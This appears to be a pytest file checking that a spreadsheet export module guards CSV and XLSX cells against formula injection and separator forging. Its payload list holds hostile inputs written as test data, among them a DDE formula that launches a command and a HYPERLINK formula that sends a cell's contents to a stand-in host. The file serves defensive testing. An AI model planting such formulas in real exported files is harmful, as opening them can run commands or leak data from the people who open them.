"""What somebody is called is never calculated by whoever opens a list of it, and no cell becomes two."""

import csv
import io

import openpyxl
import pytest

from core.spreadsheets import Column, Table, csv_chunks, unguarded, write_xlsx

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)",
    "  =1+1",
    "\t=1+1",
    "\r\n=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    '=HYPERLINK("https://evil.test/?x="&A1,"click")',
    "+33 6 12 34 56 78",
]
FORGED = ["Dupont;=1+1", "Dupont,=1+1", 'Du"pont;"=1+1', "Dupont\n=1+1", "#N/A", "'quoted'"]
UNREADABLE = ["nul\x00", "bell\x07", "half \ud83d", "end\ufffe"]


def _csv(text: str, locale: str) -> tuple[bytes, list[list[str]]]:
    data = b"".join(csv_chunks(Table("Names", (Column("Name"), Column("City")), [(text, "Lyon")]), locale))
    separator = ";" if locale == "fr_FR" else ","
    return data, list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=separator))


@pytest.mark.parametrize("locale", ["fr_FR", "en_GB"])
@pytest.mark.parametrize("text", [*FORMULAS, *FORGED, *UNREADABLE])
def test_a_text_in_csv_is_one_cell_that_calculates_nothing(text: str, locale: str) -> None:
    data, rows = _csv(text, locale)
    assert [len(row) for row in rows] == [2, 2]
    assert rows[1][1] == "Lyon"
    assert rows[1][0].strip()[:1] not in tuple("=+-@\N{FULLWIDTH EQUALS SIGN}")
    # A program that takes the other separator finds every cell in quotes.
    assert b'"Lyon"' in data
    assert b"\x00" not in data


@pytest.mark.parametrize("text", [*FORMULAS, *FORGED])
def test_what_was_guarded_can_be_read_again(text: str) -> None:
    _data, rows = _csv(text, "en_GB")
    assert unguarded(rows[1][0]) == text.replace("\r\n", "\n")


@pytest.mark.parametrize("text", [*FORMULAS, *FORGED, *UNREADABLE])
def test_a_text_in_xlsx_is_a_text(text: str) -> None:
    out = io.BytesIO()
    write_xlsx(Table(text, (Column(text),), [(text,)]), out)
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    for cell in (sheet["A1"], sheet["A2"]):
        assert cell.data_type in {"s", "inlineStr"}
        assert cell.value is not None
        assert cell.value.strip("\r\n") in text.replace("\r", "")
